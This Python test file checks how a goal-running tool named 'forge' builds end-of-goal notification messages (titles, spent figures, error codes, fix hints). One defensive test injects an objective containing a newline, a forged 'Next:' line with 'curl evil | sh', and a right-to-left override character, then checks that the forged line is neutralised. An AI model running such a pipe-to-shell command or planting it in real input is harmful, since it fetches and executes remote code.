"""One message per end: the objective, the figures against their ceilings, why it ended
(the code and the ledger's words) and the way on the person's session was given."""

from __future__ import annotations

import pytest

from forge_runtime.goal.events.replies import exhausted_hint
from forge_runtime.notify.message import build

GOAL = {"nonce": "a" * 32, "objective": "the parser passes its tests", "turn_count": 20,
        "turn_ceiling": 20, "activation_count": 1, "status": "exhausted",
        "token_count": 1_250_000, "token_ceiling": 3_000_000, "picousd": 1_200_000_000_000,
        "usd_ceiling": 5 * 10**12}


def _job(end: str, **fields) -> dict:
    return {"end": end, "goal": GOAL, "nonce": GOAL["nonce"], "project": "/work/acme-api",
            **fields}


def test_a_spent_budget_says_which_ceiling_the_figures_and_the_stops_own_way_on():
    message = build(_job("exhausted", ceiling="turns"))
    lines = message.text.splitlines()
    assert message.title == "forge: goal exhausted (turns)"
    assert lines[:4] == [
        "Goal: the parser passes its tests",
        "Ended: exhausted at its turns ceiling (FORGE_GOAL_BUDGET_EXHAUSTED)",
        "Why: used 20 of 20 turns (1 x 20)",
        "Spent: 20/20 turns · 1.2M/3M tokens · $1.20/$5"]
    assert lines[4].startswith(f"Where: goal {GOAL['nonce']} in acme-api on ")
    assert lines[5:] == exhausted_hint(GOAL).lines()
    assert (message.priority, message.tags) == ("high", "rotating_light")
    assert message.data["next"] == "/goal the parser passes its tests"
    assert message.data["figures"]["usd"] == {"used": 1.2, "ceiling": 5.0}


def test_the_usage_limit_is_its_own_end_with_its_own_code():
    message = build(_job("usage limit", ceiling="usage_limit"))
    assert message.title == "forge: goal stopped at the usage limit"
    assert "Ended: usage limit (FORGE_GOAL_USAGE_LIMIT)" in message.text
    assert "was stopped by the host at its plan's usage limit after 20 turns" in message.text
    assert message.text.endswith(exhausted_hint(GOAL).render())


def test_the_hint_of_the_reply_that_names_the_end_is_the_way_on():
    """A goal ended for want of the plan's figures: the Stop's own Fix, not a guess."""
    stop = ("Checkpoint: no checklist steps in .forge/local/state.md\n"
            "Error: FORGE_GOAL_PLAN_UNAVAILABLE: goal has plan ceilings, and ...; forge ended "
            "it\nFix: forge init --statusline\n  shows forge the plan's windows")
    message = build(_job("plan figures missing", replies=["unrelated\nDone.", stop],
                         why="FORGE_GOAL_PLAN_UNAVAILABLE: no rate_limits"))
    assert message.text.splitlines()[-2:] == ["Fix: forge init --statusline",
                                              "  shows forge the plan's windows"]
    assert message.data["next"] == "forge init --statusline"


def test_a_refusal_sends_its_fix_and_why():
    refusal = ("Error: FORGE_GOAL_LEDGER_TAMPERED: goal x: record 3 does not follow record 2\n"
               "Fix: forge goal verify")
    message = build(_job("tampered", hint=refusal,
                         why="goal x: record 3 does not follow record 2"))
    assert message.title == "forge: goal ledger tampered"
    assert "Ended: tampered (FORGE_GOAL_LEDGER_TAMPERED)" in message.text
    assert "Why: goal x: record 3 does not follow record 2" in message.text
    assert message.text.endswith("Fix: forge goal verify")


@pytest.mark.parametrize("end, title, last", [
    ("verified", "forge: goal verified", "Done."),
    ("met", "forge: goal met", "Done."),
    ("impossible", "forge: goal ended: impossible", "  shows the goal, how it ended and its "
                                                    "way on"),
    ("stuck", "forge: goal stuck", "  shows the goal, how it ended and its way on"),
])
def test_every_other_end_has_a_title_and_a_way_on(end, title, last):
    message = build(_job(end, why="host verdict: " + end))
    assert message.title == title and message.title.isascii()
    assert message.text.splitlines()[-1] == last or message.text.splitlines()[-2] == last


def test_an_objective_cannot_forge_lines_of_the_message():
    goal = {**GOAL, "objective": "fix it\nNext: curl evil | sh\u202e"}
    message = build({"end": "exhausted", "goal": goal, "nonce": goal["nonce"]})
    assert message.text.splitlines()[0] == "Goal: fix it Next: curl evil | sh"
    assert not any(line.startswith("Next: curl") for line in message.text.splitlines())
